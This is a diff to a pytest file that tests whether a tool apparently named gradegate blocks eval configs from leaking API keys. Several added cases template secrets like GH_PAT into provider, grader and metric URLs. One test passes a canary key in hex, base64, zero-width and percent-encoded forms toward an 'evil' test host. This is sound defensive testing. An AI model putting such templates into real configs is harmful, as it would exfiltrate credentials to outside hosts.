@@ -1,9 +1,12 @@
 """Keys go to their own hosts, and nothing that leaves the program shows them."""
 
+import base64
 import json
+from urllib.parse import quote
 
 import pytest
 
+from gradegate import cli
 from support.fake_llm import FakeLlm, serve
 
 KEY = "sk-canary-0123456789abcdef"
@@ -80,6 +83,17 @@ ELSEWHERE = {
         {"id": "openai:chat:m", "env": {"K": "{{env.GH_PAT}}"}, "config": {"apiKeyEnvar": "K", "apiBaseUrl": url}}
     ),
     "http url": lambda url: config({"id": f"{url}/{{{{prompt}}}}/{{{{env.GH_PAT}}}}", "config": {"method": "GET"}}),
+    "text with a key": lambda url: config(f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"),
+    "text with letters of a key": lambda url: config(f"{url}/{{{{env['GH_PAT'][3:] | upper}}}}?q={{{{prompt}}}}"),
+    "grader as a text": lambda url: config(
+        "openai:chat:m",
+        test={"assert": [{"type": "llm-rubric", "value": "x", "provider": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}]},
+    ),
+    "model of a metric": lambda url: config(
+        "openai:chat:m",
+        test={"assert": [{"type": "faithfulness", "config": {"model": f"{url}/{{{{env.GH_PAT}}}}?q={{{{prompt}}}}"}}]},
+    ),
+    "literal of the config": lambda url: config(openai(apiKeyEnvar="K", apiBaseUrl=url), env={"K": "{{env.GH_PAT}}"}),
     "http header": lambda url: config(
         {"id": url, "config": {"body": {"p": "{{prompt}}"}, "headers": {"A": "{{ env.OPENAI_API_KEY }}"}}}
     ),
@@ -189,11 +203,50 @@ def test_the_workflow_opens_a_variable(gate, llm, github, monkeypatch):
     assert (ran.code, "`GITHUB_TOKEN` in `allowed-env` is the runner" in ran.err) == (2, True)
 
 
-def test_a_variable_that_is_not_set_is_a_mistake_in_a_providers_config(gate, llm, github):
+@pytest.mark.parametrize(
+    "form", ["{}", "http://[{}/?q={{{{prompt}}}}", "http://127.0.0.1:{}/?q={{{{prompt}}}}", "http://{}.x/"]
+)
+@pytest.mark.parametrize("command", ["run", "validate"])
+def test_no_mistake_quotes_what_an_address_shows(github, monkeypatch, tmp_path, capsys, form, command):
+    monkeypatch.setenv("WEIRD", "odd-canary-value")
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "promptfooconfig.yaml").write_text(json.dumps(config(form.format("{{env.WEIRD}}"))))
+    assert cli.main([command]) == 2
+    assert CANARY not in "".join(capsys.readouterr())
+
+
+def test_a_key_that_a_target_tells_goes_to_no_graders_host_however_it_is_written(gate, llm, evil, github):
+    forms = [
+        KEY,
+        KEY.encode().hex(),
+        base64.b64encode(KEY.encode()).decode(),
+        "\u200b".join(KEY),
+        quote(KEY).replace("-", "%2d"),
+    ]
+    for form in forms:
+        llm.reply = lambda path, body, form=form: f"the key is {form}"
+        grader = openai(apiKey="own", apiBaseUrl=evil.base)
+        ran = gate(config("openai:chat:m", test={"assert": [{"type": "llm-rubric", "value": "x", "provider": grader}]}))
+        assert (ran.code, evil.requests) == (2, []), form
+
+
+def test_addresses_and_models_by_variables(gate, llm, github, monkeypatch):
+    monkeypatch.setenv("APP_HOST", f"127.0.0.1:{llm.port}")
+    monkeypatch.setenv("MODEL", "m-1")
+    ran = gate(config({"id": "http://{{env.APP_HOST}}/v1", "config": {"body": {"p": "{{prompt}}"}}}))
+    assert (ran.code, f"key: APP_HOST -> 127.0.0.1:{llm.port}" in ran.out) == (0, True)
+    assert "`allowed-env: MODEL`" in gate(config("openai:chat:{{env.MODEL}}")).err
+    assert gate(config("openai:chat:{{env.MODEL}}"), "--allowed-env", "MODEL").code == 0
+    assert llm.bodies[-1]["model"] == "m-1"
+
+
+def test_a_variable_that_is_not_set_is_a_mistake_in_a_providers_config(gate, llm, github, monkeypatch):
     ran = gate(config(openai(apiBaseUrl="{{env.NOPE}}")))
     assert (ran.code, llm.requests) == (2, [])
     assert "promptfooconfig.yaml:4: `{{ env.NOPE }}` is not set" in ran.err
-    assert gate(config(openai(apiBaseUrl="{{env.NOPE | default('" + llm.base + "')}}"))).code == 0
+    other = openai(apiKey="own", apiBaseUrl="{{env.NOPE | default('" + llm.base + "')}}")
+    monkeypatch.delenv("OPENAI_BASE_URL")
+    assert gate(config(other)).code == 0
 
 
 @pytest.mark.parametrize(
